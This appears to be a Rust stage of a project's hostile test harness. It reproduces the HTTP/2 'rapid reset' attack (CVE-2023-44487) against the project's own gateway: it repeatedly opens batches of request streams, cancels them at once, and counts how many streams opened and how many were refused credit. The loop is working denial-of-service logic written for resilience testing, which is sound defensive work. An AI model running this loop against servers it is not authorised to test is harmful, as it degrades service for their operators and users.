//! Requests that are given up as soon as they are asked, over and over, as fast as the gateway grants streams: each costs it
//! a slot, an event and a new credit (the "rapid reset" of HTTP/2, CVE-2023-44487).

use super::phone::framed;
use super::stage::HostileError;
use super::{Findings, Stage, raw};
use shake_proto::code::Code;
use shake_proto::wire::v1::{Wallet, request::Kind};

/// Streams of one act.
const STREAMS_EACH: u32 = 4;

pub(super) fn run(stage: &Stage, findings: &mut Findings) -> Result<(), HostileError> {
    let request = framed(Kind::Wallet(Wallet {}));
    let (mut opened, mut without_credit) = (0, 0);
    raw::assault(stage, findings, |raw, _| {
        let mut streams = Vec::new();
        for _ in 0..STREAMS_EACH {
            match raw.connection.open_request(&request) {
                Ok(stream) => streams.push(stream),
                Err(_) => without_credit += 1,
            }
        }
        raw.transmit();
        for &stream in &streams {
            raw.connection.cancel_request(stream, Code::Done.number().into());
        }
        raw.transmit();
        opened += streams.len() as u64;
        !streams.is_empty()
    })?;
    findings.answers_add("streams opened and reset", opened);
    findings.answers_add("no credit for a stream", without_credit);
    Ok(())
}
